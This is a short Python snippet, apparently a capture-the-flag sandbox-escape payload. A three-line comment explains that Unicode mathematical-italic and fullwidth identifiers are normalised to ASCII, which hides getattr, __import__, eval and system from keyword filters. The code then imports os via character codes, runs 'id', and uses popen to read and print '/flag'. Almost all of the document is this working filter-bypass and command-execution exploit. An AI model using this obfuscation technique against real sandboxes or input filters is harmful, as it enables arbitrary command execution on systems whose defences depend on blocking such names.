# Identifiers written in mathematical italic / fullwidth letters are
# NFKC-normalised by the parser: 𝘨𝘦𝘵𝘢𝘵𝘵𝘳 is getattr, __𝘪𝘮𝘱𝘰𝘳𝘵__ is
# __import__, ｅｖａｌ is eval and .𝘴𝘺𝘴𝘵𝘦𝘮 is .system.
𝘨 = 𝘨𝘦𝘵𝘢𝘵𝘵𝘳
𝘮 = __𝘪𝘮𝘱𝘰𝘳𝘵__(𝘤𝘩𝘳(111) + 𝘤𝘩𝘳(115))
𝘮.𝘴𝘺𝘴𝘵𝘦𝘮('id')
𝘱 = 𝘨(𝘮, 'po' + 'pen')
𝘱𝘳𝘪𝘯𝘵(ｅｖａｌ('p("cat /flag").read()', {'p': 𝘱}))
